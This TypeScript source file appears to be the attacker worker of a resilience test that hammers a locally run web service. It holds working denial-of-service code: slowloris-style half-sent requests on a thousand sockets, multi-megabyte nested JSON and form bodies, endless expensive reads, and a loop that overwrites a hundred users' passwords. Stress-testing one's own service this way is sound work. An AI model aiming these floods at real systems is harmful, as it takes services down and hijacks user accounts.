// The attacker of the scenario `attacks`: a thread that does one thing to a service until it is ended.
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { workerData } from 'node:worker_threads';
import type { AttackTarget } from './attack-names.ts';

const connections = 1_000;
const target = workerData as AttackTarget;
each(target.people)[target.name]?.();

function each(people: readonly number[]): Readonly<Record<string, () => void>> {
  const deep = `{"name":${'['.repeat(2_490_000)}${']'.repeat(2_490_000)}}`;
  const form = 'a=1&'.repeat(500_000);
  const children = `{"nestedEntities":{"tasks":[${'{},'.repeat(1_500_000)}{}]}}`;
  const passwords = people.slice(0, 100).map((id, index) => ({ id, password: `Kjq!82-${index}-lantern` }));
  return {
    'bodies that never come': unfinished,
    'nested arrays': () => repeating(3, { path: 'users/create', body: deep }),
    parameters: () =>
      repeating(3, {
        path: 'users/create',
        body: form,
        type: 'application/x-www-form-urlencoded',
      }),
    'empty children': () => repeating(3, { path: 'projects/create', body: children }),
    'whole account': () => repeating(4, { path: 'deltaSync/read' }),
    'lists of ten thousand': () => repeating(4, { path: 'timeTrackings/read?_limit=10000&_resolve=user_id' }),
    passwords: () => repeating(3, { path: 'users/update', method: 'PUT', body: JSON.stringify(passwords) }),
  };
}

interface Repeated {
  readonly path: string;
  readonly method?: string;
  readonly body?: string;
  readonly type?: string;
}

/** Sends the request again and again on several connections, whatever is answered. */
function repeating(clients: number, request: Repeated): void {
  const { path, body, type = 'application/json', method = body === undefined ? 'GET' : 'POST' } = request;
  const work = async (): Promise<void> => {
    for (;;) {
      const headers = { ...target.headers, 'content-type': type };
      const init = { method, headers, ...(body === undefined ? {} : { body }) };
      await fetch(target.origin + target.path + path, init).then(
        (answer) => answer.arrayBuffer(),
        () => delay(10),
      );
    }
  };
  for (let client = 0; client < clients; client += 1) void work();
}

/** Connections that send headers and no body, opened again when they are closed. */
function unfinished(): void {
  const { port } = new URL(target.origin);
  const open = (): void => {
    const socket = connect(Number(port), '127.0.0.1');
    socket.on('error', () => {});
    socket.on('close', () => setTimeout(open, 100));
    const lines = [
      `POST ${target.path}users/create HTTP/1.1`,
      'Host: a',
      `Authorization: ${target.headers['authorization']}`,
      'Content-Length: 100',
    ];
    socket.write(`${lines.join('\r\n')}\r\n\r\n`);
  };
  for (let index = 0; index < connections; index += 1) open();
}
